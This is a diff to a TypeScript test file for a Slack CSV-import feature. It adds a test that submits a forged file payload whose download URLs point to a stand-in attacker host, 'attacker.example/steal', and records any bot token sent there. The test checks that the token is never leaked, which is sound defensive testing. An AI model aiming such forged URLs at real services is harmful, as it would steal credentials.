@@ -63,6 +63,7 @@ async function uploadAndPreview(
   expect(form.callback_id).toBe(CALLBACK.importModal);
   const fileId = uniqueId('F');
   const file = uploadedFile(fileId, name, Buffer.byteLength(content));
+  expectApi('files.info', { ok: true, file }, { match: (a) => a.file === fileId });
   const download = nock(FILES_HOST)
     .get(`/files-pri/T0-${fileId}/download/${name}`)
     .matchHeader('authorization', `Bearer ${BOT_TOKEN}`)
@@ -208,6 +209,73 @@ describe('CSV import through Slack', () => {
       response_action: 'errors',
       errors: { file: 'The file is 5.5 MB; the largest import is 5 MB.' },
     });
+  });
+
+  it('never sends the bot token to a URL taken from the payload', async () => {
+    const s = await school();
+    const open = expectApi('views.open', { ok: true });
+    await app.send(slashCommand(s.office, '/spoc', 'import assets'));
+    const form = (await until(() => open.calls[0], 'form')).view!;
+    const stolen: string[] = [];
+    const evil = nock('https://attacker.example')
+      .persist()
+      .get(/.*/)
+      .reply(function () {
+        stolen.push(String(this.req.headers.authorization));
+        return [200, 'Tag\nPC-1'];
+      });
+    const forged = {
+      ...uploadedFile('F0FORGED1', 'devices.csv', 20),
+      url_private: 'https://attacker.example/steal',
+      url_private_download: 'https://attacker.example/steal?download=1',
+    };
+    const submit = (who: Who) =>
+      app.send(
+        viewSubmission(
+          who,
+          CALLBACK.importModal,
+          { [REGISTER_BLOCK.file]: { files: [forged] } },
+          { viewId: 'V0FORGED01', privateMetadata: form.private_metadata as string },
+        ),
+      );
+
+    // A teacher, and a user of another school, are refused before anything is fetched.
+    const teacher: Who = { teamId: s.teamId, userId: uniqueId('U'), userName: 'ms.patel' };
+    expect((await submit(teacher)).json()).toEqual({
+      response_action: 'errors',
+      errors: { [REGISTER_BLOCK.file]: 'Only office staff (the SPOC) can change the registers.' },
+    });
+    const other = await slackSchool(app, 'C0SPOC0099');
+    const outsider: Who = { teamId: other.teamId, userId: uniqueId('U'), userName: 'stranger' };
+    expect((await submit(outsider)).json()).toMatchObject({ response_action: 'errors' });
+
+    // The office: the file is looked up by id, and Slack's own address is the one downloaded.
+    expectApi(
+      'files.info',
+      { ok: true, file: uploadedFile('F0FORGED1', 'devices.csv', 20) },
+      {
+        match: (a) => a.file === 'F0FORGED1',
+      },
+    );
+    const real = nock(FILES_HOST)
+      .get('/files-pri/T0-F0FORGED1/download/devices.csv')
+      .matchHeader('authorization', `Bearer ${BOT_TOKEN}`)
+      .reply(200, 'Tag,Type,Room\nPC-9,Desktop,Library\n', { 'content-type': 'text/csv' });
+    const update = expectApi('views.update', { ok: true });
+    await submit(s.office);
+    const preview = await until(() => update.calls[0], 'preview');
+    expect(textOf(preview.view)).toContain('*1* new');
+    expect(real.isDone()).toBe(true);
+
+    // Should files.info itself name another host, nothing is fetched from it either.
+    expectApi('files.info', { ok: true, file: forged }, { match: (a) => a.file === 'F0FORGED1' });
+    const refused = expectApi('views.update', { ok: true });
+    await submit(s.office);
+    const problem = await until(() => refused.calls[0], 'problem view');
+    expect(textOf(problem.view)).toContain('Slack would not give me the file');
+
+    expect(stolen).toEqual([]);
+    expect(evil.isDone()).toBe(false);
   });
 
   it('is office work: a teacher is told, not shown the form', async () => {
